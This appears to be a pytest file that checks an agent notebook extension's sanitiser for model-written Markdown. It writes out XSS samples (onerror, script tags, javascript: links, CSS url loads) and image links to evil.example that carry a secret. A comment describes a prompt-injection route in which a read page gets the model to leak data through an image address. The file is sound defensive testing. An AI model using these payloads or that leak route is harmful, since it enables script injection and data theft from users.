"""`trace.safe_html` and `trace.markdown_stream`: Markdown the model wrote, as HTML that shows but
never runs; ordinary Markdown still reads as formatted text.

Every payload of `html_payloads` goes through each function, and the result is read as a browser
reads it (`problems`): no event attribute, no element that runs script, no script or data
address. The display paths (the cell, `%agent show`, the inspector, the sidebar) are checked with
the same payloads in `test_model_text_display.py`.
"""

from __future__ import annotations

import html5lib
import pytest
from html_payloads import PAYLOADS, problems

from jupyter_deepagent.trace.markdown_stream import MarkdownStream
from jupyter_deepagent.trace.safe_html import (
    clean_html,
    clean_page_html,
    clean_view_html,
    markdown_html,
)

NAMES = list(PAYLOADS)


def _tree(html: str):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def _text(html: str) -> str:
    return "".join(_tree(html).itertext())


@pytest.mark.parametrize("name", NAMES)
def test_markdown_with_a_payload_renders_to_html_where_nothing_runs(name: str) -> None:
    assert problems(markdown_html(PAYLOADS[name])) == []


@pytest.mark.parametrize("name", NAMES)
def test_a_payload_as_raw_html_is_cleaned_by_every_allow_list(name: str) -> None:
    payload = PAYLOADS[name]
    assert problems(clean_html(payload)) == []
    assert problems(clean_view_html(payload), view=True) == []
    assert problems(clean_page_html(payload), page=True) == []


@pytest.mark.parametrize("name", NAMES)
def test_a_payload_streamed_in_pieces_never_shows_anything_that_runs(name: str) -> None:
    stream = MarkdownStream()
    payload = PAYLOADS[name]
    for start in range(0, len(payload), 3):
        stream.append(payload[start:start + 3])
        assert problems(stream.html()) == [], stream.text


def test_the_payload_corpus_has_every_break_of_the_issue_and_forty_in_all() -> None:
    assert len(PAYLOADS) >= 40
    for needed in ("link_destination_backtick", "code_span_across_heading",
                   "code_span_across_quote", "code_span_across_list_item",
                   "code_span_across_rule", "code_span_across_table_cell",
                   "fence_closed_by_tilde_line", "indented_fence", "entity_j_javascript",
                   "entity_colon_javascript", "entity_tab_javascript", "raw_script",
                   "img_onerror", "svg_onload", "iframe_srcdoc", "a_href_javascript",
                   "autolink_javascript", "reference_link_javascript", "data_html_link",
                   "data_html_image", "style_element", "form_action", "math_mxss",
                   "tags_in_table_cells", "closes_the_show_fence"):
        assert needed in PAYLOADS


def test_ordinary_markdown_still_reads_as_a_formatted_answer() -> None:
    text = ("# Findings\n\nThe glaciers lost **267 Gt** a year (*GRACE*, ~~2019~~ 2023).\n\n"
            "| region | loss |\n|---|---:|\n| Greenland | 267 |\n\n"
            "```python\nprint(1 < 2)\n```\n\n"
            "- one\n- two\n\n> a quote\n\n"
            "See [the data](https://example.org/grace?x=1&y=2), `df.head()` and "
            "![a plot](outputs/plot.png) and ![inline](data:image/png;base64,iVBOR).")
    tree = _tree(markdown_html(text))
    tags = {element.tag for element in tree.iter()}
    assert {"h1", "strong", "em", "s", "table", "thead", "td", "pre", "code", "ul", "li",
            "blockquote", "a", "img"} <= tags
    [link] = tree.iter("a")
    assert link.get("href") == "https://example.org/grace?x=1&y=2"
    assert [img.get("src") for img in tree.iter("img")] == [
        "outputs/plot.png", "data:image/png;base64,iVBOR"]
    [code] = [e for e in tree.iter("code") if "print" in (e.text or "")]
    assert code.text == "print(1 < 2)\n"
    assert [td.get("style") for td in tree.iter("td")] == [None, "text-align:right"]


def test_raw_html_in_markdown_is_shown_as_the_characters_written() -> None:
    shown = markdown_html('Done. <img src=x onerror="alert(1)"> and <script>x()</script>')
    assert _text(shown) == 'Done. <img src=x onerror="alert(1)"> and <script>x()</script>\n'


def test_code_spans_autolinks_and_escapes_read_as_written() -> None:
    shown = markdown_html("Inline `x <y> z` code and ``a ` <b> ` c`` spans, an autolink "
                          "<https://example.org/a?b=c>, an escaped \\<b>, and a < b.")
    tree = _tree(shown)
    assert [c.text for c in tree.iter("code")] == ["x <y> z", "a ` <b> ` c"]
    assert [a.get("href") for a in tree.iter("a")] == ["https://example.org/a?b=c"]
    assert "an escaped <b>, and a < b." in _text(shown)


def test_math_stays_readable_as_written_and_out_of_mathjax_reach() -> None:
    shown = markdown_html("Energy $E = mc^2$ and $a*b*c$, costs $5 and $10.\n\n$$\nx < y\n$$")
    tree = _tree(shown)
    [block] = tree
    assert "mathjax_ignore" in block.get("class").split()
    assert [c.text for c in tree.iter("code")] == ["$E = mc^2$", "$a*b*c$", "$$\nx < y\n$$"]
    assert "costs $5 and $10." in _text(shown)  # prices are not math
    assert not list(tree.iter("em"))  # the stars inside math are not emphasis


def test_links_keep_only_web_mail_and_relative_addresses() -> None:
    shown = clean_html('<a href="https://a.org">1</a><a href="mailto:x@a.org">2</a>'
                       '<a href="notes/run.md">3</a><a href="#part">4</a>'
                       '<a href="ftp://a.org">5</a><a href="java\tscript:x">6</a>'
                       '<img src="data:image/gif;base64,R0lG"><img src="data:image/svg+xml,<svg>">')
    tree = _tree(shown)
    assert [a.get("href") for a in tree.iter("a")] == [
        "https://a.org", "mailto:x@a.org", "notes/run.md", "#part", None, None]
    assert [img.get("src") for img in tree.iter("img")] == ["data:image/gif;base64,R0lG", None]


def test_the_views_allow_list_keeps_the_inspectors_own_shapes_and_tabs() -> None:
    view = ('<svg class="jdi-gauge" role="img" width="90" height="8" viewBox="0 0 90 8" '
            'xmlns="http://www.w3.org/2000/svg"><title>3 of 9</title>'
            '<rect x="0" y="0" width="90" height="8" rx="4" fill="var(--x, #eee)"/>'
            '<line x1="1" x2="1" y1="0" y2="8" stroke="#000" stroke-dasharray="3 2"/></svg>'
            '<input type="radio" name="jdi-1" id="jdi-1-0" checked><label for="jdi-1-0">A</label>'
            '<details class="jdi-row" data-section="base"><summary>s</summary></details>'
            '<span class="jdi-share"><span style="width:12.0%"></span></span>')
    tree = _tree(clean_view_html(view))
    [svg] = [e for e in tree.iter() if str(e.tag).endswith("svg")]
    assert svg.get("viewBox") == "0 0 90 8" and svg.get("class") == "jdi-gauge"
    assert {str(e.tag).rsplit("}", 1)[-1] for e in svg.iter()} == {"svg", "title", "rect", "line"}
    [radio] = tree.iter("input")
    assert (radio.get("type"), radio.get("id"), radio.get("checked")) == ("radio", "jdi-1-0", "")
    assert next(tree.iter("label")).get("for") == "jdi-1-0"
    assert next(tree.iter("details")).get("data-section") == "base"
    assert [s.get("style") for s in tree.iter("span")] == [None, "width:12.0%"]


def test_a_style_that_loads_anything_is_dropped_from_the_views() -> None:
    view = "".join(f'<span class="jdi-x" style="background:{css}">t</span>' for css in (
        "url(https://evil.example/a)", "image-set('https://evil.example/b' 1x)",
        "-webkit-image-set('https://evil.example/c' 1x)", "cross-fade(url(x), url(y), 50%)",
        "#eee"))
    assert [s.get("style") for s in _tree(clean_view_html(view)).iter("span")] == [
        None, None, None, None, "background:#eee"]


def test_an_image_from_another_server_is_a_link_to_it_never_loaded_by_the_page() -> None:
    # a page the model read can have it put what it saw into an image address: nothing loads
    shown = markdown_html("![chart](https://evil.example/c.png?k=SECRET) "
                          "![b](//evil.example/b.png) ![c](/\\evil.example/c.png) "
                          "![d](figures/d.png)")
    tree = _tree(shown)
    assert [img.get("src") for img in tree.iter("img")] == [
        "/%5Cevil.example/c.png", "figures/d.png"]  # the first: a path of the notebook's server
    assert [(a.get("href"), a.text) for a in tree.iter("a")] == [
        ("https://evil.example/c.png?k=SECRET", "[image: chart]"),
        ("//evil.example/b.png", "[image: b]")]
    raw = clean_html('<img src="https://evil.example/x.png"><img src="//evil.example/y.png">'
                     '<img src="\\\\evil.example/z.png"><img src="local.png">')
    assert [img.get("src") for img in _tree(raw).iter("img")] == [None, None, None, "local.png"]


def test_a_page_keeps_its_stylesheet_and_loses_its_scripts() -> None:
    page = clean_page_html('<style>h1 { color: teal }</style><h1 class="t">Report</h1>'
                           '<script>alert(1)</script><p onclick="x()">text</p>')
    assert page == '<style>h1 { color: teal }</style><h1 class="t">Report</h1><p>text</p>'


def test_a_streamed_document_ends_as_the_same_html_as_the_whole_text() -> None:
    text = "\n\n".join(
        ["[r0]: https://example.org/0", "[r1]: https://example.org/1"]
        + [f"## Part {i}\n\nParagraph {i} with **bold**, [a ref][r{i % 3}] and `code {i}`."
           f"\n\n- item {i}\n- item {i}b\n\n| a | b |\n|---|---|\n| {i} | x |\n\n"
           f"```\nblock {i}\n```\n\n> quote {i}\n\n    indented {i}" for i in range(40)]
        + ["$$\nx\n$$"])
    stream = MarkdownStream()
    for start in range(0, len(text), 7):
        stream.append(text[start:start + 7])
        if start % 91 == 0:
            stream.html()
    assert stream.html() == markdown_html(text)


def test_a_reference_defined_in_an_earlier_block_links_while_streaming() -> None:
    stream = MarkdownStream()
    stream.append("[data]: https://example.org/data\n\nFirst part.\n\nSee [the table][data]")
    stream.html()  # the definition's block and the first part are done from here on
    stream.append(" for more")
    links = [a.get("href") for a in _tree(stream.html()).iter("a")]
    assert links == ["https://example.org/data"]
